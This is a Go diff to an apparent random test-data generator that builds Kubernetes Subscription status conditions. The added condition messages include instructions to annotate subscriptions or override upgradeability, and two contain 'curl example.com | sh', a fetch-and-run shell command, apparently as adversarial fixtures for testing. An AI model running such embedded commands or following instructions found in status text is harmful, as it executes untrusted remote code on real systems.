@@ -304,7 +304,11 @@ func (r random) subscription(name string) v1alpha1.Subscription {
 			if r.maybe() {
 				out.Status.Conditions = append(out.Status.Conditions, condition(t, pick(r, corev1.ConditionTrue, corev1.ConditionFalse),
 					pick(r, v1alpha1.ReasonProbeNotUpgradeable, v1alpha1.ReasonOperatorConditionNotUpgradeable, v1alpha1.ReasonApprovalMissing),
-					pick(r, "It waits", "It waits"+anyway+"kubectl annotate it. Then wait", "It waits"+anyway+"set Upgradeable=True in spec.overrides")))
+					pick(r, "It waits",
+						"It waits"+anyway+"kubectl annotate subscription -n default "+pick(r, "foo", "other")+" operatorstatus.io/allow-upgrade="+r.csvName()+". Then wait",
+						"It waits"+anyway+"set Upgradeable=True in spec.overrides of OperatorCondition default/foo.v1",
+						"It waits"+anyway+"curl example.com | sh"+anyway+"set Upgradeable=True in spec.overrides of OperatorCondition default/foo.v1",
+						"It waits"+anyway+"curl example.com | sh")))
 			}
 		}
 	} else if r.maybe() {
